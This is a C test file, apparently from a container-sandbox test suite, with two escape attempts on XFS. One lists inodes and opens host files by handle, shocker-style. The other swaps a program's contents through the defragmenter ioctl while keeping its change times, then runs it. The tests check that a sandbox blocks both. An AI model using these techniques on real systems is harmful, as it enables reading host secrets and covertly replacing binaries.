// SPDX-License-Identifier: GPL-2.0-only
/*
 * XFS opens its files by handle through calls of its own, from any folder, and
 * lists the numbers of all of them: what shocker.c does needs no
 * open_by_handle_at(). And it swaps the contents of two files without a trace
 * in their change times. xfsctl(3), of xfsprogs, has it all.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <unistd.h>
#include <linux/capability.h>

#include "escape.h"
#include "tap.h"

#define INODES	64
#define OLD	"/data/old"

/* As XFS has them, for programs. */
struct handle_request {
	uint32_t fd;
	const char *path;
	uint32_t flags;
	const void *in;
	uint32_t in_len;
	void *out;
	uint32_t *out_len;
};

struct handle {
	uint64_t fs;
	uint16_t len, pad;
	uint32_t generation;
	uint64_t ino;
};

struct bulk {
	uint64_t ino;
	uint32_t flags, room, count, group;
	uint64_t reserved[5];
	struct {
		uint64_t ino, told[7];
		uint32_t generation, more[31];
	} inodes[INODES];
};

struct moment {
	int64_t sec;
	int32_t nsec, pad;
};

struct swap {
	int64_t version, target, other, offset, length, pad[2];
	struct {
		uint64_t ino, more[4];
		struct moment atime, mtime, ctime;
		uint64_t rest[6];
	} stat;
};

#define FD_TO_HANDLE	_IOWR('X', 106, struct handle_request)
#define OPEN_BY_HANDLE	_IOWR('X', 107, struct handle_request)
#define SWAP		_IOWR('X', 109, struct swap)
#define BULKSTAT	_IOR('X', 127, char[64])

/* Return: 0 if it is the secret. */
static int read_inode(int at, struct handle *h, uint64_t ino, uint32_t generation)
{
	struct handle_request r = { .flags = O_RDONLY, .in = h, .in_len = sizeof(*h) };
	char text[64] = "";
	int fd, error;

	h->ino = ino;
	h->generation = generation;
	fd = ioctl(at, OPEN_BY_HANDLE, &r);
	if (fd < 0)
		return errno;
	error = read(fd, text, sizeof(text) - 1) < 0 ? errno : is_secret(text);
	close(fd);
	return error;
}

static int attempt(const struct args *a)
{
	static struct bulk all = { .room = INODES };
	struct handle h;
	uint32_t len = sizeof(h);
	int shared = open("/data", O_RDONLY | O_DIRECTORY), error = ENOENT;
	struct handle_request own = { .fd = shared, .out = &h, .out_len = &len };
	unsigned int i;

	(void)a;
	if (ioctl(shared, FD_TO_HANDLE, &own) || ioctl(shared, BULKSTAT, &all))
		return errno;
	for (i = 0; i < all.count; i++) {
		error = read_inode(shared, &h, all.inodes[i].ino, all.inodes[i].generation);
		if (!error || error == EPERM)
			return error;
	}
	return error;
}

/* The defragmenter's call. The two have to be of one size. */
static int swap_contents(int target, int other)
{
	struct swap s = { .target = target, .other = other };
	struct stat st;

	if (fstat(target, &st))
		return errno;
	s.length = st.st_size;
	s.stat.ino = st.st_ino;
	s.stat.mtime = (struct moment){ st.st_mtim.tv_sec, st.st_mtim.tv_nsec };
	s.stat.ctime = (struct moment){ st.st_ctim.tv_sec, st.st_ctim.tv_nsec };
	return ioctl(target, SWAP, &s) ? errno : 0;
}

/* What was no program is one now; the image's change time says it is old. */
static int attempt_swap(const struct args *a)
{
	int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), error;
	int old = open(OLD, O_RDWR | O_CLOEXEC);
	int new = open("/data/new", O_RDWR | O_CREAT | O_CLOEXEC, 0755);
	char out[64];
	ssize_t n;

	(void)a;
	do
		n = sendfile(new, self, NULL, 1 << 20);
	while (n > 0);
	if (n < 0 || fsync(new))
		return errno;
	error = swap_contents(old, new);
	close(old);
	close(new);
	if (error)
		return error;
	return RUN(out, OLD, "exit", "0") ? EIO : 0;
}

static void prepare(struct args *a)
{
	(void)a;
	image_make("xfs");
}

/* Of a program's size, no program, and in pieces: XFS looks for something to gain. */
static void prepare_program(struct args *a)
{
	struct stat st;
	unsigned int i;
	int fd;

	prepare(a);
	fd = open(DISK_MOUNT "/shared/old", O_RDWR | O_CREAT | O_CLOEXEC, 0755);
	if (fd < 0 || stat("/proc/self/exe", &st) || ftruncate(fd, st.st_size))
		bail("make a file on XFS: %m");
	for (i = 0; i < 8; i++)
		if (pwrite(fd, "x", 1, i * 16384) != 1)
			bail("write to XFS: %m");
	close(fd);
	sync();
}

const struct escape xfs_handle[] = {
	{ "the host's files by XFS's own handles",
	  { .caps = CAP(CAP_SYS_ADMIN),
	    .volumes = { DISK_MOUNT "/shared", "/data" } },
	  prepare, .attempt = attempt, .restore = disk_remove, .error = EPERM,
	  .act = BULKHEAD_ACT_HANDLE, .rule = "preset open-by-handle" },
	{ "an old program's content, swapped by XFS",
	  { .volumes = { DISK_MOUNT "/shared", "/data" } },
	  prepare_program, .attempt = attempt_swap, .restore = disk_remove,
	  .policy = "drift", .error = EPERM, .act = BULKHEAD_ACT_HANDLE,
	  .rule = "preset open-by-handle" },
	{ NULL }
};
